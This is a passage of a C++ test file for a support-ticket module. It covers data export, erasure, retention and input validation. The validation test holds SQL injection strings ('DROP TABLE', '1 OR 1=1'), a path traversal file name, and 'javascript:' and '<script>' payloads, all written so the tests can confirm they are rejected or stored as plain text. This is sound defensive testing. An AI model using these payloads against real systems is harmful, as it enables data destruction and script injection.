    add_credential(t, kAlice);
    open_ticket(kBob, "Not Alice's");

    Exported e = export_subject(kAlice);
    std::map<std::string, int> per_category;
    for (const auto &[category, item] : e.items) ++per_category[category];
    EXPECT_EQ(per_category["ticket description"], 1);
    EXPECT_EQ(per_category["ticket environment"], 1);
    EXPECT_EQ(per_category["ticket attachments"], 1);
    EXPECT_EQ(per_category["ticket credentials"], 1);
    ASSERT_EQ(e.files.size(), 1u);
    EXPECT_EQ(e.files.begin()->second, "exported file bytes");
    EXPECT_NE(e.all.find("/home/alice/www"), std::string::npos); // the owner's own view
    EXPECT_NE(e.all.find("staff answer"), std::string::npos);
    EXPECT_EQ(e.all.find("Not Alice's"), std::string::npos);
    for (const char *secret : {"Tr0ub4dor", "alice-support-login", "shop.alice.example"})
        EXPECT_EQ(e.all.find(secret), std::string::npos) << secret;
    for (const auto &[category, item] : e.items)
        if (category == "ticket attachments") {
            EXPECT_EQ(item.at("file"), value(e.files.begin()->first));
        }
    EXPECT_TRUE(export_subject(kStaff).items.empty());
}

TEST_F(TicketsTest, ErasureRemovesTheSubjectsTicketsAndAnonymisesTheirStaffWork) {
    int64_t mine = open_ticket(kAlice);
    call("ticket.reply", {{"ticket_id", mine}, {"body", "staff reply in Alice's ticket"}}, staff());
    attach(mine, kAlice, "alice file");
    attach(mine, kStaff, "alice file", "dup.txt", true);
    int64_t cred = add_credential(mine, kAlice);
    call("credential.reveal", {{"credential_id", cred}}, staff());
    int64_t bobs = open_ticket(kBob);
    call("ticket.reply", {{"ticket_id", bobs}, {"body", "staff reply in Bob's ticket"}}, staff());
    attach(bobs, kBob, "bob file");

    std::string before = db_.dump_all_tables();
    std::vector<Outcome> planned = erase_subject(kAlice, true);
    EXPECT_EQ(db_.dump_all_tables(), before); // dry run changes nothing
    std::vector<Outcome> done = erase_subject(kAlice, false);
    ASSERT_EQ(planned.size(), done.size());
    std::map<std::string, int> removed;
    int reveals_retained = 0;
    for (const Outcome &o : done) {
        // Issue 10 item 4: the log of who saw Alice's credential outlives her ticket; it is
        // reported, kept for accountability until the log's retention ends.
        if (o.category == "credential reveal log") {
            EXPECT_EQ(o.outcome, PLINTH_ERASURE_RETAINED) << o.item;
            EXPECT_FALSE(o.legal_basis.empty());
            EXPECT_EQ(o.retained_until, now_s() + 730 * kDay);
            ++reveals_retained;
            continue;
        }
        EXPECT_EQ(o.outcome, PLINTH_ERASURE_REMOVED) << o.item;
        ++removed[o.category];
    }
    EXPECT_EQ(reveals_retained, 1);
    EXPECT_EQ(removed["ticket description"], 2); // the ticket and the staff reply in it
    EXPECT_EQ(removed["ticket attachments"], 2);
    EXPECT_EQ(removed["ticket credentials"], 1);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_tickets WHERE owner_id = 101"), 0);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_blobs WHERE owner_id = 101"), 0); // not left for the sweep
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_replies"), 1);                    // Bob's
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_blobs"), 1);
    EXPECT_TRUE(erase_subject(kAlice, false).empty()); // idempotent

    // The staff member as a subject: their reply in Bob's ticket stays without them; their reveal
    // of Alice's credential is retained for accountability until the log's retention ends.
    std::vector<Outcome> staff_items = erase_subject(kStaff, false);
    ASSERT_EQ(staff_items.size(), 2u);
    EXPECT_EQ(staff_items[0].outcome, PLINTH_ERASURE_ANONYMISED);
    EXPECT_EQ(staff_items[1].category, "credential reveal log");
    EXPECT_EQ(staff_items[1].outcome, PLINTH_ERASURE_RETAINED);
    EXPECT_FALSE(staff_items[1].legal_basis.empty());
    EXPECT_EQ(staff_items[1].retained_until, now_s() + 730 * kDay);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_replies WHERE author_id = 900"), 0);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_replies WHERE body = 'staff reply in Bob''s ticket'"), 1);
}

// Issue 10 item 8: a receiver that dies in the middle of the report (here: refuses the 6th item)
// loses nothing: each ticket's items are reported inside the transaction that deletes it, so the
// interrupted ticket is rolled back and the next call reports it and the rest.
TEST_F(TicketsTest, AnErasureInterruptedWhileReportingLosesNoOutcome) {
    for (int t = 0; t < 4; ++t) {
        int64_t id = open_ticket(kAlice);
        call("ticket.reply", {{"ticket_id", id}, {"body", "more detail"}}, customer(kAlice));
        attach(id, kAlice, "file " + std::to_string(t));
    }
    std::set<std::string> expected;
    for (const Outcome &o : erase_subject(kAlice, true)) expected.insert(o.item);
    ASSERT_EQ(expected.size(), 12u);

    struct Limited {
        std::set<std::string> items;
        int left;
    } first{{}, 5};
    auto *pd = host_.host().interface_as<plinth_personal_data_v1>("tickets", PLINTH_EXT_PERSONAL_DATA);
    plinth_subject subject{sizeof(plinth_subject), kAlice, nullptr, 0};
    plinth_erasure_sink sink{sizeof(plinth_erasure_sink), &first, [](void *ctx, const plinth_erasure_item *i) -> int32_t {
                                 auto *l = static_cast<Limited *>(ctx);
                                 if (l->left == 0) return 1; // the receiver is gone
                                 --l->left;
                                 l->items.insert(std::string(sdk::to_view(i->item)));
                                 return 0;
                             }};
    plinth_error error = sdk::make_error();
    EXPECT_EQ(pd->erase_subject(module(), &subject, 0, &sink, &error), PLINTH_E_SINK);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_tickets WHERE owner_id = 101"), 3)
        << "the first ticket is gone; the one being reported was rolled back";

    std::set<std::string> all = first.items;
    for (const Outcome &o : erase_subject(kAlice, false)) all.insert(o.item);
    EXPECT_EQ(all, expected);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_tickets WHERE owner_id = 101"), 0);
}

TEST_F(TicketsTest, ClosedTicketsAreAnonymisedAfterTheirRetentionPeriod) {
    object env = json::parse(R"({"server": {"document_root": "/srv/identifying-path"}})").as_object();
    int64_t old_ticket = open_ticket(kAlice, "Identifying subject line", {{"environment", env}});
    call("ticket.reply", {{"ticket_id", old_ticket}, {"body", "identifying reply"}}, customer(kAlice));
    attach(old_ticket, kAlice, "identifying file");
    call("ticket.set_status", {{"ticket_id", old_ticket}, {"status", "closed"}}, customer(kAlice));
    host_.advance_s(200 * kDay);
    int64_t recent = open_ticket(kAlice, "Recent one");
    call("ticket.set_status", {{"ticket_id", recent}, {"status", "closed"}}, customer(kAlice));
    int64_t still_open = open_ticket(kAlice, "Still open");

    host_.advance_s(165 * kDay + 1); // old_ticket closed 365 days + 1 s ago
    auto counts = sweep();
    EXPECT_EQ(counts["ticket description/anonymised"], 1);
    EXPECT_EQ(counts["ticket attachments/removed"], 1);
    std::string dump = db_.dump_all_tables();
    for (const char *gone : {"Identifying subject line", "identifying reply", "identifying-path", "identifying file"})
        EXPECT_EQ(dump.find(gone), std::string::npos) << gone;
    EXPECT_NE(dump.find("Recent one"), std::string::npos);
    EXPECT_EQ(fails("ticket.get", {{"ticket_id", old_ticket}}, customer(kAlice)), PLINTH_E_NOT_FOUND);
    object seen = call("ticket.get", {{"ticket_id", old_ticket}}, staff()).as_object();
    EXPECT_TRUE(seen.at("anonymised").as_bool());
    EXPECT_EQ(seen.at("owner_id"), 0);
    EXPECT_EQ(fails("ticket.set_status", {{"ticket_id", old_ticket}, {"status", "open"}}, staff()), PLINTH_E_CONFLICT);
    EXPECT_EQ(sweep()["ticket description/anonymised"], 0);
    (void)still_open;
}

TEST_F(TicketsTest, InventoryListsEveryCategory) {
    auto *inv = host_.host().interface_as<plinth_data_inventory_v1>("tickets", PLINTH_EXT_DATA_INVENTORY);
    ASSERT_NE(inv, nullptr);
    std::vector<std::string> names;
    plinth_inventory_sink sink{sizeof(plinth_inventory_sink), &names,
                               [](void *ctx, const plinth_data_category *c) -> int32_t {
                                   static_cast<std::vector<std::string> *>(ctx)->emplace_back(sdk::to_view(c->name));
                                   return c->purpose.size > 0 && c->legal_basis.size > 0 ? 0 : 1;
                               }};
    plinth_error error = sdk::make_error();
    ASSERT_EQ(inv->list_categories(module(), &sink, &error), PLINTH_OK) << error.message;
    EXPECT_EQ(names, (std::vector<std::string>{"ticket description", "ticket environment", "ticket attachments",
                                               "ticket credentials", "credential reveal log"}));
}

// ---------------------------------------------------------------- bad input

TEST_F(TicketsTest, BadInputOfEveryKindIsRefusedClearlyAndChangesNothing) {
    int64_t t = open_ticket(kAlice);
    int64_t file = attach(t, kAlice, "kept").at("id").as_int64();
    int64_t cred = add_credential(t, kAlice);
    std::string before = db_.dump_all_tables();

    struct Case {
        std::string command, args;
        int32_t status;
        std::string expect;
    };
    const std::string huge(70 * 1024, 'x');
    const std::vector<Case> cases = {
        {"ticket.create", "{not json", PLINTH_E_INVALID_ARGUMENT, "not valid JSON"},
        {"ticket.create", "[1,2]", PLINTH_E_INVALID_ARGUMENT, "JSON object"},
        {"ticket.create", R"({"subject":"s"})", PLINTH_E_INVALID_ARGUMENT, "description"},
        {"ticket.create", R"({"subject":5,"description":"d"})", PLINTH_E_INVALID_ARGUMENT, "subject"},
        {"ticket.create", R"({"subject":"","description":"d"})", PLINTH_E_INVALID_ARGUMENT, "empty"},
        {"ticket.create", R"({"subject":"a\nb","description":"d"})", PLINTH_E_INVALID_ARGUMENT, "control"},
        {"ticket.create", "{\"subject\":\"\xff\xfe\",\"description\":\"d\"}", PLINTH_E_INVALID_ARGUMENT, "JSON"},
        {"ticket.create", R"({"subject":"s","description":")" + huge + R"("})", PLINTH_E_INVALID_ARGUMENT, "longer"},
        {"ticket.create", R"({"subject":"s","description":"d","priority":"asap"})", PLINTH_E_INVALID_ARGUMENT,
         "priority"},
        {"ticket.create", R"({"subject":"s","description":"d","environment":{"os":"x"}})", PLINTH_E_INVALID_ARGUMENT,
         "environment"},
        {"ticket.create", R"({"subject":"s","description":"d","status":"closed"})", PLINTH_E_INVALID_ARGUMENT,
         "unknown argument 'status'"},
        {"ticket.get", R"({"ticket_id":"1 OR 1=1"})", PLINTH_E_INVALID_ARGUMENT, "integer"},
        {"ticket.get", R"({"ticket_id":-1})", PLINTH_E_INVALID_ARGUMENT, "between"},
        {"ticket.get", R"({"ticket_id":1.5})", PLINTH_E_INVALID_ARGUMENT, "integer"},
        {"ticket.get", R"({"ticket_id":123456789})", PLINTH_E_NOT_FOUND, "not found"},
        {"ticket.list", R"({"cursor":"1; DROP TABLE tickets_tickets"})", PLINTH_E_INVALID_ARGUMENT, "cursor"},
        {"ticket.reply", R"({"ticket_id":@T,"body":"\u0000"})", PLINTH_E_INVALID_ARGUMENT, "control"},
        {"ticket.set_status", R"({"ticket_id":@T,"status":"deleted"})", PLINTH_E_INVALID_ARGUMENT, "status"},
        {"ticket.set_environment", R"({"ticket_id":1})", PLINTH_E_INVALID_ARGUMENT, "environment"},
        {"ticket.set_environment", R"({"ticket_id":@T,"environment":[]})", PLINTH_E_INVALID_ARGUMENT, "object"},
        {"ticket.delete", R"({"ticket_id":1})", PLINTH_E_UNSUPPORTED, "unknown command"},
        {"attachment.add", R"({"ticket_id":@T,"file_name":"a.txt","media_type":"text/plain"})",
         PLINTH_E_INVALID_ARGUMENT, "content_base64"},
        {"attachment.add", R"({"ticket_id":@T,"file_name":"a.txt","media_type":"text/plain","content_base64":"!!"})",
         PLINTH_E_INVALID_ARGUMENT, "base64"},
        {"attachment.add", R"({"ticket_id":@T,"file_name":"../x.txt","media_type":"text/plain","content_base64":"eA=="})",
         PLINTH_E_INVALID_ARGUMENT, "file_name"},
        {"attachment.add", R"({"ticket_id":@T,"file_name":"a.txt","media_type":"plain","content_base64":"eA=="})",
         PLINTH_E_INVALID_ARGUMENT, "media_type"},
        {"attachment.add", R"({"ticket_id":@T,"file_name":"a.txt","media_type":"text/plain","content_base64":""})",
         PLINTH_E_INVALID_ARGUMENT, "empty"},
        {"attachment.get", R"({"attachment_id":"x"})", PLINTH_E_INVALID_ARGUMENT, "integer"},
        {"credential.add", R"x({"ticket_id":@T,"site_url":"javascript:alert(1)","username":"u","password":"p"})x",
         PLINTH_E_INVALID_ARGUMENT, "site_url"},
        {"credential.add", R"({"ticket_id":@T,"site_url":"https://x.example","username":"u"})",
         PLINTH_E_INVALID_ARGUMENT, "password"},
        {"credential.add", R"({"ticket_id":@T,"site_url":"https://x.example","username":"u","password":"p","ttl_days":0})",
         PLINTH_E_INVALID_ARGUMENT, "ttl_days"},
        {"credential.remove", R"({"credential_id":99999})", PLINTH_E_NOT_FOUND, "not found"},
    };
    for (const Case &c : cases) {
        std::string args = c.args;
        // @T stands for the ticket made above.
        for (size_t at; (at = args.find("@T")) != std::string::npos;) args.replace(at, 2, std::to_string(t));
        std::string message;
        EXPECT_EQ(host_.call_error("tickets", c.command, args, customer(kAlice), &message), c.status)
            << c.command << " " << args.substr(0, 120) << " gave: " << message;
        EXPECT_NE(message.find(c.expect), std::string::npos) << c.command << ": " << message;
    }
    // Staff-side bad input too.
    EXPECT_EQ(host_.call_error("tickets", "credential.reveal", R"({"credential_id":"all"})", staff()),
              PLINTH_E_INVALID_ARGUMENT);
    EXPECT_EQ(host_.call_error("tickets", "ticket.set_priority", "{\"ticket_id\":" + std::to_string(t) + ",\"priority\":\"URGENT\"}", staff()),
              PLINTH_E_INVALID_ARGUMENT);

    EXPECT_EQ(db_.dump_all_tables(), before);

    // Injection strings are stored and returned as text, never run.
    const std::string nasty = "'); DROP TABLE tickets_tickets; -- <script>alert(1)</script>";
    int64_t n = open_ticket(kAlice, nasty);
    EXPECT_EQ(call("ticket.get", {{"ticket_id", n}}, customer(kAlice)).at("subject"), value(nasty));
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_tickets"), 2);
    (void)file;
    (void)cred;
}

} // namespace
} // namespace plinth::tickets
